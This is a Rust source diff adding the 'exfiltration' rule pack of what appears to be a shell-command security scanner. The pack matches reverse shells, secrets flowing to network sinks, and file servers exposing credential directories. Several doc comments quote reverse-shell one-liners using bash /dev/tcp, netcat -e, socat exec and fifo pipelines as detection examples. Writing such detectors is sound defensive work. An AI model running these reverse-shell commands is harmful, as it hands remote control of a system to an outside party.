@@ -1,0 +1,150 @@
+//! The `exfiltration` pack: a secret flowing to a network sink (`TG-EXFIL-SECRET-UPLOAD`, in
+//! [`flows`]: the engine weighs each flow against the policy's `exfiltration.allow`), a shell
+//! wired to a network connection (`TG-EXFIL-REVERSE-SHELL`), and a server publishing a home
+//! or credential directory on every interface (`TG-EXFIL-PUBLIC-SERVER`).
+
+mod flows;
+mod server;
+mod sinks;
+
+use super::{Check, Matcher as M, Seen};
+use crate::knowledge::exfiltration::{SOCAT_EXEC_TYPES, sender};
+use crate::knowledge::interpreters::is_interpreter;
+use crate::knowledge::programs::{Class, in_class, table_name};
+use crate::model::SimpleCommand;
+use crate::syntax::words::basename;
+
+pub use flows::{SecretFlow, secret_flows};
+
+/// The rule the engine reports for a [`SecretFlow`] the policy does not allow.
+pub const SECRET_UPLOAD: &str = "TG-EXFIL-SECRET-UPLOAD";
+const REVERSE_SHELL: &str = "TG-EXFIL-REVERSE-SHELL";
+const PUBLIC_SERVER: &str = "TG-EXFIL-PUBLIC-SERVER";
+
+/// Shells (the program table's `Shell` class), for the matchers' index.
+const SHELLS: &[&str] = &[
+    "sh", "bash", "zsh", "dash", "ksh", "mksh", "ash", "fish", "yash", "posh", "rbash", "csh",
+    "tcsh",
+];
+
+/// Interpreters whose inline code is read for sockets wired to a shell.
+const CODE: &[&str] = &[
+    "python", "pypy", "perl", "ruby", "node", "nodejs", "php", "bun",
+];
+
+/// The pack's matchers (the secret flows are the engine's, see [`flows`]).
+pub(super) const MATCHERS: &[M] = &[
+    M::new(REVERSE_SHELL, SHELLS, &[]).check(Check::ShellOnSocket),
+    // `exec 5<>/dev/tcp/h/p; sh <&5 >&5`: the socket opened for the shell that follows.
+    M::new(REVERSE_SHELL, &["exec"], &[]).check(Check::ShellOnSocket),
+    M::new(REVERSE_SHELL, &["nc", "ncat", "netcat"], &[]).check(Check::NetcatRunsShell),
+    M::new(REVERSE_SHELL, &["socat"], &[]).check(Check::SocatRunsShell),
+    M::new(REVERSE_SHELL, CODE, &[]).check(Check::InlineReverseShell),
+    M::new(PUBLIC_SERVER, &["python", "pypy", "php"], &[]).check(Check::PublicServer),
+];
+
+/// bash's network pseudo-files.
+fn is_socket_path(path: &str) -> bool {
+    path.starts_with("/dev/tcp/") || path.starts_with("/dev/udp/")
+}
+
+/// Whether the command line `line` starts a shell that takes its commands from stdin: a
+/// shell or interpreter with options only (`/bin/sh`, `bash -li`, `python3 -i`,
+/// `cmd.exe`), not one given a script or code.
+pub(super) fn starts_a_shell(line: &str) -> bool {
+    let mut words = line.split_whitespace();
+    let Some(first) = words.next() else {
+        return false;
+    };
+    let name = basename(first).to_ascii_lowercase();
+    let shell = in_class(&name, Class::Shell)
+        || is_interpreter(&name).is_some_and(|opts| !opts.is_empty())
+        || matches!(name.as_str(), "cmd" | "cmd.exe" | "powershell" | "pwsh");
+    shell && words.all(|w| w.starts_with('-'))
+}
+
+/// A shell reading its commands from a network connection or sending its output to one:
+/// `bash -i >& /dev/tcp/h/p 0>&1`, `cat fifo | sh -i | nc h p > fifo`, `nc h p | sh`, and
+/// `exec 5<>/dev/tcp/h/p` followed by a shell.
+pub(super) fn shell_on_socket(seen: &Seen<'_>) -> bool {
+    let cmd = seen.cmd;
+    let commands = &seen.analysis.commands;
+    if cmd.program_lower() == "exec" {
+        let opens = cmd.writes.iter().any(|w| is_socket_path(w));
+        return opens
+            && commands[seen.index + 1..]
+                .iter()
+                .any(|c| in_class(&c.program_lower(), Class::Shell) && c.reads_code_from_stdin);
+    }
+    // A script file or `-c` string: its output on a socket is data, not a shell.
+    let interactive = cmd.reads_code_from_stdin || cmd.flags.contains("-i");
+    if !interactive {
+        return false;
+    }
+    if cmd.writes.iter().any(|w| is_socket_path(w))
+        || cmd.stdin_file.as_deref().is_some_and(is_socket_path)
+    {
+        return true;
+    }
+    let socket = |c: &SimpleCommand| {
+        table_name(&c.program).and_then(sender)
+            == Some(crate::knowledge::exfiltration::Sender::Socket)
+            || c.program_lower() == "socat"
+    };
+    // Fed by a socket, or feeding one (a script it was given in the pipe is no shell).
+    let fed = cmd
+        .stdin_from
+        .clone()
+        .is_some_and(|r| commands[r.clone()].iter().any(socket));
+    let literal_input = cmd.stdin_from.clone().is_some_and(|r| {
+        commands[r]
+            .iter()
+            .all(|c| matches!(c.program_lower().as_str(), "echo" | "printf"))
+    });
+    let feeds = commands.iter().any(|c| {
+        c.stdin_from
+            .as_ref()
+            .is_some_and(|r| r.contains(&seen.index))
+            && socket(c)
+    });
+    fed || (feeds && !literal_input)
+}
+
+/// `nc -e /bin/sh h p`, `ncat --exec bash`, `nc -c sh`, `ncat --sh-exec 'bash -i'`: netcat
+/// runs a shell on the connection (listening or connecting).
+pub(super) fn netcat_runs_shell(seen: &Seen<'_>) -> bool {
+    seen.view
+        .opts
+        .iter()
+        .filter(|o| matches!(o.name.as_str(), "-e" | "--exec" | "-c" | "--sh-exec"))
+        .filter_map(|o| o.value.as_deref())
+        .any(starts_a_shell)
+}
+
+/// `socat tcp:h:p exec:/bin/sh`, `socat TCP-LISTEN:4444 EXEC:'bash -li',pty`: socat runs a
+/// shell on a network address.
+pub(super) fn socat_runs_shell(seen: &Seen<'_>) -> bool {
+    let mut network = false;
+    let mut shell = false;
+    for o in seen.view.operands() {
+        let (kind, rest) = o.split_once(':').unwrap_or((o, ""));
+        if crate::facts::destinations::socat_network_type(kind) {
+            network = true;
+        }
+        if SOCAT_EXEC_TYPES.contains(&kind.to_ascii_uppercase().as_str()) {
+            let line = rest.split(',').next().unwrap_or("");
+            shell |= starts_a_shell(line);
+        }
+    }
+    network && shell
+}
+
+/// A file server on every interface serving a home or credential directory.
+pub(super) fn public_server(seen: &Seen<'_>) -> bool {
+    server::public_server(seen, seen.cx)
+}
+
+/// Inline interpreter code that wires a shell to a socket.
+pub(super) fn inline_reverse_shell(cmd: &SimpleCommand) -> bool {
+    cmd.inline_network.as_ref().is_some_and(|n| n.reverse_shell)
+}
